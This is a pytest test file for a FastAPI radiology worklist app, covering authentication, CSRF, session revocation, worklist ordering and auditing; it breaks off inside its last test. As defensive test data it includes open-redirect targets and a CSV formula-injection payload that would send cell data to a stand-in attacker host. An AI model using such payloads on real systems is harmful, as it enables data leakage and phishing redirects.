"""The web application through FastAPI's TestClient: auth, roles, CSRF, worklist, audit.

Runs against a real node (SQLite and PostgreSQL via ``database_url``) with the web
server off; the app is built in-process from the same factory ``serve`` uses.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import logging
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from unittest import mock
from urllib.parse import quote

import numpy as np
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, select, update
from sqlalchemy.exc import DBAPIError

from node.config import Settings
from node.db.models import (
    AuditEvent,
    Finding,
    Priority,
    Role,
    Study,
    StudyStatus,
    WebSession,
)
from node.errors import ConfigError
from node.routing.store import NOTHING_ROUTED
from node.runtime import Node
from node.users.accounts import Accounts
from node.web.app import SESSION_COOKIE, create_app
from node.web.audit import (
    MAX_LISTED_UIDS,
    AuditQuery,
    AuditRecord,
    AuditTrail,
    csv_lines,
    listing,
)
from node.web.secret import KEY_FILE, MIN_KEY_CHARS, session_secret
from node.worklist import list_studies, worklist_fingerprint
from tests.conftest import node_config

PASSWORD = "a-long-password"
_uids = itertools.count(1)


def add_study(node: Node, **values: Any) -> str:
    n = next(_uids)
    uid = values.pop("study_instance_uid", f"1.2.826.0.1.3680043.10.1234.{n}")
    t = values.pop("received", datetime(2026, 11, 25, 8, 0, tzinfo=UTC) + timedelta(minutes=n))
    fields: dict[str, Any] = {
        "study_instance_uid": uid,
        "accession_number": f"ACC{n}",
        "patient_id": f"PID{n}",
        "patient_name": f"Test^Patient{n}",
        "modalities": "CR",
        "calling_ae_title": "STORESCU",
        "status": StudyStatus.DONE,
        "priority": Priority.ROUTINE,
        "first_received_at": t,
        "last_received_at": t,
    }
    fields.update(values)
    with node.sessions.begin() as session:
        session.add(Study(**fields))
    return uid


@pytest.fixture
def node(start_node: Callable[..., Node], database_url: str) -> Node:
    n = start_node(database_url)
    accounts = Accounts(n.sessions)
    accounts.add("admin", PASSWORD, Role.ADMIN)
    accounts.add("rad", PASSWORD, Role.RADIOLOGIST)
    return n


@pytest.fixture
def client(node: Node) -> Iterator[TestClient]:
    with TestClient(create_app(node)) as c:
        yield c


def login(client: TestClient, name: str) -> str:
    r = client.post("/api/session", json={"name": name, "password": PASSWORD})
    assert r.status_code == 200, r.text
    token: str = r.json()["csrf_token"]
    client.headers["X-CSRF-Token"] = token
    return token


ADMIN_ROUTES = [
    ("GET", "/api/audit"),
    ("GET", "/api/audit/export.csv"),
    ("GET", "/api/rules"),
    ("POST", "/api/rules/validate"),
    ("POST", "/api/rules/test"),
    ("POST", "/api/rules"),
    ("GET", "/api/rules/versions"),
    ("GET", "/api/rules/versions/1"),
    ("POST", "/api/rules/versions/1/activate"),
    ("GET", "/api/destinations"),
    ("POST", "/api/destinations/PACS/echo"),
    ("GET", "/api/status"),
    ("GET", "/api/models"),
    ("PUT", "/api/models/pneumonia-triage/enabled"),
]
USER_ROUTES = [
    ("GET", "/api/worklist"),
    ("GET", "/api/worklist/fingerprint"),
    ("GET", "/api/studies/1.2.3"),
    ("POST", "/api/studies/1.2.3/read"),
    ("GET", "/api/studies/1.2.3/instances/1.2.4/image.png"),
    ("GET", "/api/studies/1.2.3/instances/1.2.4/mask.png"),
    ("GET", "/api/models/pneumonia-triage/card"),
    ("GET", "/api/session"),
]
ADMIN_PAGES = [
    "/admin/rules",
    "/admin/destinations",
    "/admin/models",
    "/admin/status",
    "/admin/audit",
]


@pytest.mark.parametrize(("method", "path"), ADMIN_ROUTES + USER_ROUTES)
def test_anonymous_api_calls_get_401(client: TestClient, method: str, path: str) -> None:
    r = client.request(method, path, json={"text": "", "study_instance_uid": "1"})
    assert r.status_code == 401
    assert r.json() == {"detail": "not logged in"}


@pytest.mark.parametrize(("method", "path"), ADMIN_ROUTES)
def test_radiologists_get_403_on_admin_routes(client: TestClient, method: str, path: str) -> None:
    login(client, "rad")
    r = client.request(method, path, json={"text": "", "study_instance_uid": "1"})
    assert r.status_code == 403


def test_pages_redirect_anonymous_to_login_and_refuse_radiologists(client: TestClient) -> None:
    for path in ["/", "/studies/1.2.3", *ADMIN_PAGES]:
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")
    login(client, "rad")
    for path in ADMIN_PAGES:
        assert client.get(path).status_code == 403
    assert client.get("/").status_code == 200


def test_admin_pages_render(client: TestClient) -> None:
    login(client, "admin")
    for path in ADMIN_PAGES:
        r = client.get(path)
        assert r.status_code == 200, (path, r.text[:500])
    assert "pneumonia-triage" in client.get("/admin/models").text
    assert client.get("/models/pneumonia-triage/card").status_code == 200


def test_login_form_with_csrf_and_wrong_password(client: TestClient) -> None:
    page = client.get("/login")
    token = page.text.split('name="csrf_token" value="')[1].split('"')[0]
    bad = client.post("/login", data={"name": "rad", "password": "nope", "csrf_token": token})
    assert bad.status_code == 401 and "Wrong user name or password" in bad.text
    no_csrf = client.post("/login", data={"name": "rad", "password": PASSWORD})
    assert no_csrf.status_code == 403
    ok = client.post(
        "/login",
        data={"name": "rad", "password": PASSWORD, "csrf_token": token, "next": "/"},
        follow_redirects=False,
    )
    assert ok.status_code == 303
    assert client.get("/api/session").json()["name"] == "rad"


@pytest.mark.parametrize(
    ("asked", "sent_to"),
    [
        ("/studies/1.2.3?x=1", "/studies/1.2.3?x=1"),
        ("//evil.example/", "/"),
        ("/\\evil.example/", "/"),  # browsers read /\host as //host
        ("https://evil.example/", "/"),
    ],
)
def test_login_goes_only_to_pages_of_this_site(
    client: TestClient, asked: str, sent_to: str
) -> None:
    page = client.get("/login", params={"next": asked})
    token = page.text.split('name="csrf_token" value="')[1].split('"')[0]
    ok = client.post(
        "/login",
        data={"name": "rad", "password": PASSWORD, "csrf_token": token, "next": asked},
        follow_redirects=False,
    )
    assert ok.status_code == 303 and ok.headers["location"] == sent_to


def test_posts_need_the_csrf_token(client: TestClient, node: Node) -> None:
    uid = add_study(node)
    login(client, "rad")
    del client.headers["X-CSRF-Token"]
    assert client.post(f"/api/studies/{uid}/read").status_code == 403
    client.headers["X-CSRF-Token"] = "wrong"
    assert client.post(f"/api/studies/{uid}/read").status_code == 403


def test_disabled_user_loses_the_session(client: TestClient, node: Node) -> None:
    login(client, "rad")
    assert client.get("/api/worklist").status_code == 200
    Accounts(node.sessions).set_active("rad", False)
    assert client.get("/api/worklist").status_code == 401


def _copied_cookie(client: TestClient, node: Node) -> TestClient:
    """A second browser holding a copy of ``client``'s session cookie (and CSRF token)."""
    thief = TestClient(create_app(node))
    thief.cookies.set(SESSION_COOKIE, client.cookies[SESSION_COOKIE])
    thief.headers["X-CSRF-Token"] = client.headers["X-CSRF-Token"]
    return thief


@pytest.mark.parametrize("how", ["api", "page"])
def test_logout_ends_a_copied_session_cookie_too(client: TestClient, node: Node, how: str) -> None:
    """The cookie is signed, not secret from whoever copied it: logging out must end
    the session on the server, not only clear the browser's copy."""
    token = login(client, "rad")
    with _copied_cookie(client, node) as thief:
        assert thief.get("/api/worklist").status_code == 200
        if how == "api":
            assert client.delete("/api/session").status_code == 204
        else:
            out = client.post("/logout", data={"csrf_token": token}, follow_redirects=False)
            assert out.status_code == 303
        assert thief.get("/api/worklist").status_code == 401
        assert thief.get("/", follow_redirects=False).status_code == 303
    login(client, "rad")  # a new login is a new session
    assert client.get("/api/worklist").status_code == 200


def test_disabling_a_user_revokes_their_sessions_for_good(client: TestClient, node: Node) -> None:
    """Enabling the account again must not bring back the sessions it had."""
    login(client, "rad")
    with _copied_cookie(client, node) as other:
        accounts = Accounts(node.sessions)
        assert accounts.set_active("rad", False) and accounts.set_active("rad", True)
        assert client.get("/api/worklist").status_code == 401
        assert other.get("/api/worklist").status_code == 401
    login(client, "rad")
    assert client.get("/api/worklist").status_code == 200


def test_a_new_password_ends_the_users_sessions(node: Node) -> None:
    with TestClient(create_app(node)) as rad, TestClient(create_app(node)) as admin:
        login(rad, "rad")
        login(admin, "admin")
        assert Accounts(node.sessions).set_password("rad", "a-new-password")
        assert rad.get("/api/worklist").status_code == 401
        assert admin.get("/api/worklist").status_code == 200
        new = {"name": "rad", "password": "a-new-password"}  # pragma: allowlist secret
        assert rad.post("/api/session", json=new).status_code == 200


def test_logout_ends_only_that_session(node: Node) -> None:
    with TestClient(create_app(node)) as desk, TestClient(create_app(node)) as ward:
        login(desk, "rad")
        login(ward, "rad")
        assert desk.delete("/api/session").status_code == 204
        assert desk.get("/api/worklist").status_code == 401
        assert ward.get("/api/worklist").status_code == 200


def test_a_request_writes_last_seen_at_most_once_a_minute(client: TestClient, node: Node) -> None:
    """The session lookup is one read; only a user's request a minute after the last
    recorded one writes (background polls never do)."""
    t0 = time.time()
    login(client, "rad")

    def seen() -> datetime:
        with node.sessions() as session:
            return session.scalars(select(WebSession.last_seen_at)).one()

    def writes(path: str, at: float) -> int:
        with mock.patch("time.time", return_value=at):
            return _count_statements(
                node, lambda: client.get(path).raise_for_status(), ("UPDATE web_sessions",)
            )

    first = seen()
    assert writes("/api/session", t0 + 30) == 0 and seen() == first
    assert writes("/api/worklist/fingerprint", t0 + 120) == 0 and seen() == first
    assert writes("/api/session", t0 + 120) == 1 and seen() > first
    assert writes("/api/session", t0 + 150) == 0


def test_worklist_order_filters_and_search(client: TestClient, node: Node) -> None:
    base = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
    routine_old = add_study(node, received=base, key_score=None)
    routine_scored = add_study(node, received=base + timedelta(minutes=5), key_score=0.4)
    urgent = add_study(
        node, received=base + timedelta(minutes=9), priority=Priority.URGENT, key_score=0.9
    )
    stat = add_study(
        node,
        received=base + timedelta(minutes=10),
        priority=Priority.STAT,
        status=StudyStatus.QUEUED,
        modalities="CT",
        accession_number="FINDME",
    )
    routine_high = add_study(node, received=base + timedelta(minutes=7), key_score=0.7)
    login(client, "rad")
    page = client.get("/api/worklist").json()
    order = [i["study_instance_uid"] for i in page["items"]]
    assert order == [stat, urgent, routine_high, routine_scored, routine_old]
    assert page["items"][1]["flag"] == "high" and page["items"][3]["flag"] == "low"

    def uids(**params: Any) -> list[str]:
        r = client.get("/api/worklist", params=params)
        assert r.status_code == 200, r.text
        return [i["study_instance_uid"] for i in r.json()["items"]]

    assert uids(status="queued") == [stat]
    assert uids(modality="ct") == [stat]
    assert uids(priority=1) == [urgent]
    assert uids(q="FINDME") == [stat]
    assert uids(q=f"PID{stat.rsplit('.', 1)[1]}") == [stat]
    assert uids(received_from="2026-11-26") == []
    assert uids(received_to="2026-11-25") == order
    two = client.get("/api/worklist", params={"limit": 2, "offset": 2}).json()
    assert [i["study_instance_uid"] for i in two["items"]] == order[2:4] and two["has_more"]


def test_worklist_modality_filter_matches_whole_items(client: TestClient, node: Node) -> None:
    """CT is not OCT, US is not IVUS; a modality anywhere in a study's list counts."""
    studies = {m: add_study(node, modalities=m) for m in ("CT", "OCT", "US", "IVUS")}
    studies.update({m: add_study(node, modalities=m) for m in ("CT\\SR", "SR\\CT", "MR\\CT\\SR")})
    login(client, "rad")

    def matched(modality: str) -> set[str]:
        r = client.get("/api/worklist", params={"modality": modality})
        assert r.status_code == 200, r.text
        found = {i["study_instance_uid"] for i in r.json()["items"]}
        return {m for m, uid in studies.items() if uid in found}

    assert matched("ct") == {"CT", "CT\\SR", "SR\\CT", "MR\\CT\\SR"}
    assert matched("US") == {"US"}
    assert matched("SR") == {"CT\\SR", "SR\\CT", "MR\\CT\\SR"}
    assert matched("C_") == matched("%") == matched("CT\\%") == set()


def test_worklist_waiting_counts_from_the_first_instance(client: TestClient, node: Node) -> None:
    """A late instance of a study waiting since 08:00 does not put it behind one of 08:30."""
    base = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
    old = add_study(node, received=base)
    newer = add_study(node, received=base + timedelta(minutes=30))
    with node.sessions.begin() as session:
        session.execute(
            update(Study)
            .where(Study.study_instance_uid == old)
            .values(last_received_at=base + timedelta(hours=1))
        )
    login(client, "rad")
    items = client.get("/api/worklist").json()["items"]
    assert [i["study_instance_uid"] for i in items] == [old, newer]
    second = client.get("/api/worklist", params={"limit": 1, "offset": 1}).json()["items"]
    assert [i["study_instance_uid"] for i in second] == [newer]
    page = client.get("/").text
    assert page.index(old) < page.index(newer)
    with node.reads() as session:
        assert [s.study_instance_uid for s in list_studies(session)] == [old, newer]


def test_mark_read_updates_worklist_and_audit(client: TestClient, node: Node) -> None:
    uid = add_study(node)
    login(client, "rad")
    before = client.get("/api/worklist/fingerprint").json()["fingerprint"]
    r = client.post(f"/api/studies/{uid}/read")
    assert r.status_code == 200 and r.json()["read_by"] == "rad"
    assert client.get("/api/worklist/fingerprint").json()["fingerprint"] != before
    assert client.get("/api/worklist", params={"unread": True}).json()["items"] == []
    detail = client.get(f"/api/studies/{uid}").json()
    assert detail["patient_name"].startswith("Test^Patient")
    assert client.get("/api/studies/1.2.404").status_code == 404
    page = client.get(f"/studies/{uid}")
    assert page.status_code == 200 and "read by rad" in page.text
    with node.sessions() as session:
        events = session.execute(
            select(AuditEvent.user_name, AuditEvent.action, AuditEvent.study_instance_uid)
        ).all()
    assert ("rad", "study.read", uid) in events
    assert ("rad", "study.api", uid) in events
    assert ("rad", "study.view", uid) in events
    assert ("rad", "worklist.api", None) in events


def test_a_second_reader_does_not_replace_the_first(node: Node) -> None:
    """The worklist, the study page and the API show everyone who read a study; the
    first reader stays first (and in read_by), a repeated mark counts once."""
    uid = add_study(node)
    with TestClient(create_app(node)) as rad, TestClient(create_app(node)) as admin:
        login(rad, "rad")
        login(admin, "admin")
        assert rad.post(f"/api/studies/{uid}/read").json()["readers"] == ["rad"]
        before = rad.get("/api/worklist/fingerprint").json()["fingerprint"]
        study = admin.post(f"/api/studies/{uid}/read").json()
        assert rad.get("/api/worklist/fingerprint").json()["fingerprint"] != before
        assert study["read_by"] == "rad" and study["readers"] == ["rad", "admin"]
        rad.post(f"/api/studies/{uid}/read").raise_for_status()
        reviewed = admin.post(f"/api/studies/{uid}/reviewed").json()
        assert reviewed["readers"] == ["rad", "admin"] and reviewed["reviewers"] == ["admin"]
        (row,) = rad.get("/api/worklist").json()["items"]
        assert (row["read_by"], row["readers"], row["reviewers"]) == (
            "rad",
            ["rad", "admin"],
            ["admin"],
        )
        assert "read by rad, admin; reviewed by admin" in rad.get(f"/studies/{uid}").text
        assert "reviewed (admin); read (rad, admin)" in rad.get("/").text


def test_many_readers_show_as_the_first_and_a_count(node: Node) -> None:
    uid = add_study(node)
    accounts = Accounts(node.sessions)
    names = ["r1", "r2", "r3", "r4", "r5"]
    for name in names:
        accounts.add(name, PASSWORD, Role.RADIOLOGIST)
        with TestClient(create_app(node)) as reader:
            login(reader, name)
            reader.post(f"/api/studies/{uid}/read").raise_for_status()
    with TestClient(create_app(node)) as rad:
        login(rad, "rad")
        assert rad.get("/api/worklist").json()["items"][0]["readers"] == names
        assert f'title="{", ".join(names)}">r1 +4</span>' in rad.get("/").text


def test_worklist_views_audit_the_studies_shown(client: TestClient, node: Node) -> None:
    """Every view of patient data is audited: a worklist event names the studies on the
    page it showed (in order), not only the filters."""
    base = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
    first, second, third = (add_study(node, received=base + timedelta(minutes=m)) for m in range(3))
    login(client, "rad")
    client.get("/api/worklist", params={"limit": 2, "status": "done"}).raise_for_status()
    client.get("/api/worklist", params={"offset": 2, "q": "PID-NONE"}).raise_for_status()
    client.get("/").raise_for_status()
    client.get("/worklist/rows", params={"offset": 1}).raise_for_status()
    with node.sessions() as session:
        events = session.execute(
            select(AuditEvent.action, AuditEvent.detail)
            .where(AuditEvent.action.startswith("worklist."))
            .order_by(AuditEvent.id)
        ).all()
    assert events == [
        ("worklist.api", f"status=['done'] shown 2: {first} {second}"),
        ("worklist.api", "search shown 0"),
        ("worklist.view", f"shown 3: {first} {second} {third}"),
        ("worklist.refresh", f"shown 2: {second} {third}"),
    ]


def test_a_worklist_event_lists_at_most_a_bounded_number_of_studies() -> None:
    uids = [f"1.2.826.0.1.3680043.10.1234.{n}" for n in range(MAX_LISTED_UIDS + 7)]
    detail = listing("modality=CR", uids)
    assert detail.startswith(f"modality=CR shown {len(uids)}: {uids[0]} ")
    assert detail.endswith(f"{uids[MAX_LISTED_UIDS - 1]} (+7 more)")
    assert len(detail) < MAX_LISTED_UIDS * 65 + 100
    page = listing("", uids[:MAX_LISTED_UIDS])
    assert page.split(": ", 1)[1].split() == uids[:MAX_LISTED_UIDS]


def test_audit_by_study_finds_the_worklist_listings_that_showed_it(node: Node) -> None:
    """ "Who saw study X" must include everyone whose worklist page showed it, though a
    listing names its studies in the detail, not the StudyInstanceUID column."""
    trail = AuditTrail(node.sessions)
    trail.record("ann", "worklist.view", detail="shown 2: 1.2.3 1.2.34")
    trail.record("bob", "worklist.api", detail="modality=CR shown 1: 1.2.34")
    trail.record("cy", "study.view", study_instance_uid="1.2.3")
    trail.record("dan", "rules.save", detail="shown 1: 1.2.3")  # not a listing
    trail.record("eve", "worklist.refresh", detail="shown 3: 1.2.5 1.2.3 (+2 more)")
    trail.record("fay", "worklist.api", detail="shown 1: 1.2.3")

    def who(uid: str) -> list[str]:
        return [r.user_name for r in trail.list(AuditQuery(study_instance_uid=uid))]

    assert who("1.2.3") == ["fay", "eve", "cy", "ann"]
    assert who("1.2.34") == ["bob", "ann"]
    assert who("1.2._") == [] and who("1.2%") == []  # LIKE wildcards are literal


def test_worklist_fingerprint_changes_with_any_write_to_a_study(node: Node) -> None:
    """Routing, escalation and retries change a study without touching any received,
    queued, finished or read time: an open worklist must still learn of them."""
    uid = add_study(node, status=StudyStatus.COMPLETE)

    def fingerprint() -> str:
        with node.reads() as session:
            return worklist_fingerprint(session)

    seen = [fingerprint()]
    with node.sessions.begin() as session:  # what Pipeline.route writes when no rule matches
        session.execute(
            update(Study)
            .where(Study.study_instance_uid == uid)
            .values(status=StudyStatus.NOT_ROUTED, status_reason="no rule matched")
        )
    seen.append(fingerprint())
    with node.engine.begin() as conn:  # Core, outside any session
        conn.execute(update(Study).values(priority=Priority.STAT))
    seen.append(fingerprint())
    with node.sessions.begin() as session:  # an ORM flush
        study = session.scalars(select(Study).where(Study.study_instance_uid == uid)).one()
        study.key_finding = "pneumonia"
    seen.append(fingerprint())
    assert len(set(seen)) == len(seen), seen
    with node.reads() as session:
        study = session.scalars(select(Study)).one()
    assert study.updated_at > study.first_received_at


def test_live_update_of_a_later_page_reloads_that_page(client: TestClient, node: Node) -> None:
    node.settings.web.page_size = 2
    uids = [add_study(node) for _ in range(4)]
    login(client, "rad")
    page = client.get("/", params={"offset": 2})
    assert uids[2] in page.text and uids[0] not in page.text
    rows_url = html.unescape(page.text.split('data-rows-url="', 1)[1].split('"', 1)[0])
    rows = client.get(rows_url)
    assert rows.status_code == 200
    assert uids[2] in rows.text and uids[3] in rows.text
    assert uids[0] not in rows.text and uids[1] not in rows.text


def test_overlay_views_are_audited(client: TestClient, node: Node) -> None:
    """A lung mask or heatmap of a patient's image is patient data like the image."""
    uid = add_study(node, version=1)
    sop = f"{uid}.1"
    rel = "results/test/mask.npy"
    node.store.path(rel).parent.mkdir(parents=True, exist_ok=True)
    np.save(node.store.path(rel), np.eye(8, dtype=np.uint8))
    with node.sessions.begin() as session:
        study_id = session.scalar(select(Study.id).where(Study.study_instance_uid == uid))
        session.add(
            Finding(
                study_id=study_id,
                study_version=1,
                sop_instance_uid=sop,
                frame_number=1,
                model_name="lung-seg",
                model_version="1.2.0",
                kind="segmentation",
                mask_path=rel,
                created_at=datetime.now(UTC),
            )
        )
    login(client, "rad")
    r = client.get(f"/api/studies/{uid}/instances/{sop}/mask.png")
    assert r.status_code == 200 and r.content.startswith(b"\x89PNG")
    assert r.headers["Cache-Control"] == "no-store"  # not in the browser cache after logout
    assert client.get(f"/api/studies/{uid}/instances/{sop}/heatmap.png").status_code == 404
    with node.sessions() as session:
        events = session.execute(
            select(AuditEvent.user_name, AuditEvent.action, AuditEvent.detail).where(
                AuditEvent.study_instance_uid == uid
            )
        ).all()
    assert [tuple(e) for e in events] == [("rad", "mask.view", sop)]


def test_rules_page_warns_that_an_empty_document_routes_nothing(
    client: TestClient, node: Node
) -> None:
    token = login(client, "admin")
    page = client.post(
        "/admin/rules", data={"text": "format = 1\n", "action": "validate", "csrf_token": token}
    )
    assert page.status_code == 422  # refused as saving would refuse it, with the reason
    assert NOTHING_ROUTED in html.unescape(page.text)


def test_audit_browse_and_csv(client: TestClient, node: Node) -> None:
    uid = add_study(node)
    login(client, "admin")
    client.get(f"/api/studies/{uid}")
    events = client.get("/api/audit", params={"study_uid": uid}).json()
    assert [e["action"] for e in events] == ["study.api"]
    csv = client.get("/api/audit/export.csv")
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    assert f"admin,study.api,{uid}" in csv.text


def test_audit_times_without_a_time_zone_are_utc(client: TestClient, node: Node) -> None:
    """The audit page shows UTC times: a filter time without a zone means UTC, not a 500."""
    with node.sessions.begin() as session:
        for name, hour in (("early", 10), ("late", 12)):
            time = datetime(2026, 1, 1, hour, tzinfo=UTC)
            session.add(AuditEvent(time=time, user_name=name, action="test.tz"))
    login(client, "admin")
    since = {"action": "test.tz", "since": "2026-01-01T11:00:00"}
    until = {"action": "test.tz", "until": "2026-01-01T11:00:00"}
    for params, shown in ((since, "late"), (until, "early")):
        api = client.get("/api/audit", params=params)
        assert api.status_code == 200, api.text
        assert [e["user_name"] for e in api.json()] == [shown]
        page = client.get("/admin/audit", params=params)
        assert page.status_code == 200 and f"<td>{shown}</td>" in page.text
        csv = client.get("/api/audit/export.csv", params=params).text.splitlines()
        assert [line.split(",")[1] for line in csv[1:]] == [shown]


def test_audit_page_filters_by_date(client: TestClient, node: Node) -> None:
    """From and to are whole UTC days, both included; the CSV link keeps them."""
    with node.sessions.begin() as session:
        for name, day in (("before", 9), ("first", 10), ("last", 11), ("after", 12)):
            time = datetime(2026, 1, day, 23, 59, tzinfo=UTC)
            session.add(AuditEvent(time=time, user_name=name, action="test.day"))
    login(client, "admin")
    form = client.get("/admin/audit").text
    assert 'type="date" name="from"' in form and 'type="date" name="to"' in form
    days = {"action": "test.day", "from": "2026-01-10", "to": "2026-01-11"}
    page = client.get("/admin/audit", params=days)
    assert page.status_code == 200
    shown = [n for n in ("before", "first", "last", "after") if f"<td>{n}</td>" in page.text]
    assert shown == ["first", "last"]
    assert 'value="2026-01-10"' in page.text and 'value="2026-01-11"' in page.text
    link = html.unescape(page.text.split('id="audit-csv" href="')[1].split('"')[0])
    assert "from=2026-01-10" in link and "to=2026-01-11" in link
    csv = client.get(link).text.splitlines()
    assert [line.split(",")[1] for line in csv[1:]] == ["last", "first"]
    api = client.get("/api/audit", params=days).json()
    assert [e["user_name"] for e in api] == ["last", "first"]
    # Empty date fields (the form sends them) mean no bound.
    empty = client.get("/admin/audit", params={"action": "test.day", "from": "", "to": ""})
    assert empty.status_code == 200 and "<td>before</td>" in empty.text


@pytest.mark.parametrize(
    ("dates", "message"),
    [
        ({"from": "2026-13-01"}, "from: "),
        ({"to": "yesterday"}, "to: "),
        ({"from": "2026-01-11", "to": "2026-01-10"}, "from is after to"),
    ],
)
def test_audit_page_refuses_bad_dates_with_the_reason(
    client: TestClient, dates: dict[str, str], message: str
) -> None:
    login(client, "admin")
    page = client.get("/admin/audit", params={"user": "x", **dates})
    assert page.status_code == 422 and message in page.text
    assert 'role="alert"' in page.text and 'value="x"' in page.text  # the form keeps its input
    assert client.get("/api/audit", params=dates).status_code == 422


def test_audit_csv_cells_never_start_a_formula(client: TestClient) -> None:
    """Anyone can put a name in the audit trail by failing to log in; opened in a
    spreadsheet, the export must show it as text, not run it as a formula."""
    bad = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    failed = client.post("/api/session", json={"name": bad, "password": "whatever1"})
    assert failed.status_code == 401
    login(client, "admin")
    rows = list(csv.reader(io.StringIO(client.get("/api/audit/export.csv").text)))
    assert [row[1] for row in rows if row[2] == "login.failed"] == ["'" + bad]
    # Every column, every character that starts a formula.
    time = datetime(2026, 1, 1, tzinfo=UTC)
    for start in "=+-@\t\r":
        texts = [start + c for c in "ua1dc"]
        text = "".join(csv_lines([AuditRecord(1, time, *texts)]))
        assert list(csv.reader(io.StringIO(text)))[1][1:] == ["'" + t for t in texts]


def test_audit_export_is_audited_with_its_filters_and_address(
    client: TestClient, node: Node
) -> None:
    login(client, "admin")
    filters = {"study_uid": "1.2.3", "since": "2026-01-01T00:00:00Z"}
    assert client.get("/api/audit/export.csv", params=filters).status_code == 200
    with node.sessions() as session:
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.export")).one()
    assert event.user_name == "admin" and event.client_address == "testclient"
    assert event.detail == "study_uid=1.2.3 since=2026-01-01T00:00:00Z"


BAD_RULES = """format = 1

[[rule]]
name = "chest"
priority = "routine"
models = ["no-such-model"]
match.Modality = ["CR"]
"""


def test_rules_validate_save_test_and_rollback(client: TestClient, node: Node) -> None:
    login(client, "admin")
    active = client.get("/api/rules").json()
    assert active["version"] == 1
    bad = client.post("/api/rules/validate", json={"text": BAD_RULES}).json()
    assert not bad["ok"] and bad["problems"][0]["line"] == 6
    assert client.post("/api/rules", json={"text": BAD_RULES}).status_code == 422
    saved = client.post("/api/rules", json={"text": active["text"], "comment": "same"})
    assert saved.status_code == 201 and saved.json()["version"] == 2
    assert saved.json()["created_by"] == "admin"
    back = client.post("/api/rules/versions/1/activate")
    assert back.status_code == 200 and back.json()["version"] == 3
    assert client.post("/api/rules/test", json={"study_instance_uid": "9.9"}).status_code == 404


def test_validate_says_a_document_without_an_enabled_rule_cannot_be_saved(
    client: TestClient, node: Node
) -> None:
    """Saving refuses rules that would route nothing; Validate must not call them valid."""
    login(client, "admin")
    text = client.get("/api/rules").json()["text"]
    disabled = text.replace("[[rule]]\n", "[[rule]]\nenabled = false\n")
    assert disabled != text
    checked = client.post("/api/rules/validate", json={"text": disabled}).json()
    assert not checked["ok"] and checked["rules"]
    assert checked["problems"] == [{"line": None, "message": NOTHING_ROUTED}]
    assert client.post("/api/rules", json={"text": disabled}).status_code == 422


def test_status_and_destinations(client: TestClient, node: Node) -> None:
    add_study(node, status=StudyStatus.FAILED, status_reason="boom")
    login(client, "admin")
    status = client.get("/api/status").json()
    assert status["failed_total"] == 1 and status["by_status"]["failed"] == 1
    assert status["disk_free_bytes"] > 0
    assert client.get("/api/destinations").json() == []
    assert client.post("/api/destinations/NOPE/echo").status_code == 404


_NODE_THREADS = frozenset({"study-completion", "pipeline", "exporter", "worker-watch"})


def _count_statements(node: Node, fn: Callable[[], Any], starts: tuple[str, ...] = ()) -> int:
    """Statements ``fn`` runs (only those starting with one of ``starts``, if given)."""
    count = 0

    def before(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
        nonlocal count
        # The node's own loops (completion, pipeline, exporter) poll the same engine.
        if threading.current_thread().name not in _NODE_THREADS and (
            not starts or statement.lstrip().startswith(starts)
        ):
            count += 1

    event.listen(node.engine, "before_cursor_execute", before)
    try:
        fn()
    finally:
        event.remove(node.engine, "before_cursor_execute", before)
    return count


def test_worklist_page_does_a_bounded_number_of_queries(client: TestClient, node: Node) -> None:
    login(client, "rad")
    for _ in range(10):
        add_study(node)
    client.get("/").raise_for_status()  # warm up: connections open, first-use statements
    few = _count_statements(node, lambda: client.get("/").raise_for_status())
    rows = [
        Study(
            study_instance_uid=f"1.2.826.0.1.3680043.10.99.{i}",
            modalities="CR",
            calling_ae_title="X",
            status=StudyStatus.DONE,
            priority=i % 3,
            key_score=(i % 100) / 100,
            first_received_at=datetime(2026, 1, 1, tzinfo=UTC),
            last_received_at=datetime(2026, 1, 1, tzinfo=UTC),
        )
        for i in range(1000)
    ]
    with node.sessions.begin() as session:
        session.add_all(rows)
    many = _count_statements(node, lambda: client.get("/").raise_for_status())
    api = _count_statements(node, lambda: client.get("/api/worklist").raise_for_status())
    assert few == many, (few, many)
    assert many <= 8 and api <= 8


def test_admin_disables_a_model_recorded_and_audited(client: TestClient, node: Node) -> None:
    login(client, "rad")
    assert client.put("/api/models/lung-seg/enabled", json={"enabled": False}).status_code == 403
    login(client, "admin")
    before = {m["name"]: m for m in client.get("/api/models").json()}
    assert before["lung-seg"]["enabled"] and before["lung-seg"]["changed_by"] is None
    r = client.put("/api/models/lung-seg/enabled", json={"enabled": False})
    assert r.status_code == 200, r.text
    assert r.json()["enabled"] is False and r.json()["changed_by"] == "admin"
    assert r.json()["changed_at"] is not None
    assert client.put("/api/models/nope/enabled", json={"enabled": False}).status_code == 404
    page = client.get("/admin/models")
    assert "disabled" in page.text and "by admin" in page.text
    # The page's form switches it back on.
    token = client.headers["X-CSRF-Token"]
    back = client.post(
        "/admin/models/lung-seg/enabled",
        data={"enabled": "true", "csrf_token": token},
        follow_redirects=False,
    )
    assert back.status_code == 303
    assert {m["name"]: m["enabled"] for m in client.get("/api/models").json()}["lung-seg"]
    with node.sessions() as session:
        events = session.execute(select(AuditEvent.action, AuditEvent.detail)).all()
    assert ("model.disable", "lung-seg") in events and ("model.enable", "lung-seg") in events


def test_worklist_polling_reads_beside_a_writer_holding_the_sqlite_lock(
    start_node: Callable[..., Node],
) -> None:
    """Read-only handlers begin DEFERRED on SQLite: a write transaction in progress (an
    instance being stored) does not make the worklist's poll wait for the lock."""
    node = start_node()  # embedded SQLite
    Accounts(node.sessions).add("rad", PASSWORD, Role.RADIOLOGIST)
    add_study(node)
    with TestClient(create_app(node)) as client:
        login(client, "rad")
        before = client.get("/api/worklist/fingerprint").json()["fingerprint"]
        with node.engine.connect() as writer:
            writer.begin()  # BEGIN IMMEDIATE: holds the write lock until rollback
            writer.execute(update(Study).values(priority=Priority.STAT))
